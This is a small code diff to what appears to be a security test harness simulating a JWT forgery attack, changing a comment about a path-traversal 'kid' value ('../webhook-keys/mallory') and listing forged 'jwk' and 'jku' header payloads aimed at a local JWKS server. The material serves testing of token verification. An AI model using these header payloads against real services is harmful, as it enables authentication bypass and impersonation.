@@ -49,8 +49,9 @@ export default defineAttack({
     await new Promise<void>((resolve) => jwksServer.listen(0, '127.0.0.1', resolve));
     const { port } = jwksServer.address() as { port: number };
 
-    // Her uploaded key is webhook-keys/mallory.pem. If the kid is a file name in a folder beside
-    // it, "../webhook-keys/mallory" reaches her key; a few tries find the right number of "../".
+    // Her uploaded key is webhook-keys/mallory.pem. If the server's kid is a file name in a folder
+    // beside it, "../webhook-keys/mallory" reaches her key. (Blind, she would try a few depths of
+    // "../"; one is enough here.)
     const tries: [string, Partial<JWTHeaderParameters>][] = [
       ['embedded jwk', { jwk: { kty: myJwk.kty, crv: myJwk.crv, x: myJwk.x } }],
       [`jku → her JWKS at 127.0.0.1:${port}`, { jku: `http://127.0.0.1:${port}/jwks.json`, kid: myJwk.kid }],
